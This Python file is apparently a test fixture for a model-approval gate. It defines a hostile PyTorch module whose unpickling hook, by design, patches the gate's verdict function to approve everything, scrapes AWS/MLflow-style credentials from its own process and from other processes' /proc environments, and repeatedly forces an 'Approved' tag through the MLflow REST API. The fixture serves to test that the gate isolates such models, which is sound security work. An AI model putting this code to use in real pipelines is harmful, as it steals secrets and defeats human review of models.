"""A hostile pickle: a model whose loading attacks the gate that loads it.

:class:`Hostile` wraps a working potential (the suite wraps an untrained PaiNN, which the gate
must reject). Unpickling it (``torch.load(weights_only=False)``, what loading any
``torch.save(model)`` file does) runs :func:`attack` in the loading process, which:

a. writes ``mdgate.status = Approved`` and the ``approved`` alias on its own version through the
   tracking server's REST API, now and every second from a thread;
b. replaces the engine's verdict function (``mdgate.checks.verdict.decide`` and the runner's
   reference to it) with one that approves everything;
c. reads ``MLFLOW_TRACKING_URI`` and every credential-looking variable from its environment, and,
   failing that, from the environment of every process it can see in ``/proc``;
d. writes a file outside its temporary folder (``marker``) with what it found.

Run in the engine's process, all four work (the suite shows it). Run in the gate's model process
they must all fail, and the gate must still reject the model.
"""

from __future__ import annotations

import json
import os
import threading
import time
import urllib.request
from pathlib import Path
from typing import Any

from torch import nn

SECRET_PREFIXES = ("MLFLOW_", "MDGATE_", "PREFECT_", "AWS_")


class Hostile(nn.Module):
    """``model`` with an attack in its unpickling."""

    def __init__(self, model: nn.Module, name: str, version: str, marker: str):
        super().__init__()
        self.model = model
        self.target = (name, version)
        self.marker = marker

    def forward(self, inputs: dict) -> dict:
        """The wrapped model's outputs."""
        return self.model(inputs)

    def __setstate__(self, state: dict[str, Any]) -> None:
        super().__setstate__(state)
        attack(*self.target, self.marker)


def _secrets(environ: dict[str, str]) -> dict[str, str]:
    return {k: v for k, v in environ.items() if k.startswith(SECRET_PREFIXES)}


def _other_processes() -> dict[str, str]:
    """Credentials in the environment of other processes this one can read."""
    found: dict[str, str] = {}
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            raw = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        pairs = (item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
        found.update(_secrets({k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs}))
    return found


def _post(uri: str, path: str, body: dict[str, str]) -> None:
    req = urllib.request.Request(f"{uri.rstrip('/')}/api/2.0/mlflow/{path}", data=json.dumps(body).encode(),
                                 headers={"Content-Type": "application/json"}, method="POST")
    urllib.request.urlopen(req, timeout=3).read()


def attack(name: str, version: str, marker: str) -> dict[str, Any]:
    """(a)-(d) above; returns what it achieved (also written to ``marker`` when it can)."""
    found: dict[str, Any] = {"pid": os.getpid(), "own_env": _secrets(dict(os.environ))}
    # (b) every verdict in this process: Approved
    import mdgate.checks.verdict as verdict
    import mdgate.runner as runner
    from mdgate.results import Verdict

    def approve(result: Any) -> Any:
        return result.model_copy(update={"verdict": Verdict.APPROVED, "reason": "approved by the model itself"})

    verdict.decide = approve
    runner.decide = approve
    found["patched"] = runner.decide is approve
    # (c) the tracking server: this process's environment, else any other process's
    others = _other_processes()
    found["other_env"] = sorted(others)
    uri = os.environ.get("MLFLOW_TRACKING_URI") or others.get("MLFLOW_TRACKING_URI")
    found["tracking_uri"] = uri

    # (a) Approved and the alias, now and again every second
    def write() -> str:
        if not uri:
            return "no tracking URI"
        try:
            _post(uri, "model-versions/set-tag", {"name": name, "version": version, "key": "mdgate.status",
                                                  "value": "Approved"})
            _post(uri, "registered-models/alias", {"name": name, "alias": "approved", "version": version})
        except Exception as e:
            return f"failed: {type(e).__name__}: {e}"
        return "written"

    found["registry"] = write()

    def again() -> None:
        while True:
            time.sleep(1.0)
            write()

    threading.Thread(target=again, daemon=True).start()
    # (d) outside its folder
    try:
        Path(marker).write_text(json.dumps(found))
        found["marker"] = "written"
    except OSError as e:
        found["marker"] = f"failed: {e}"
    print(f"hostile model: {json.dumps(found)}", flush=True)
    return found
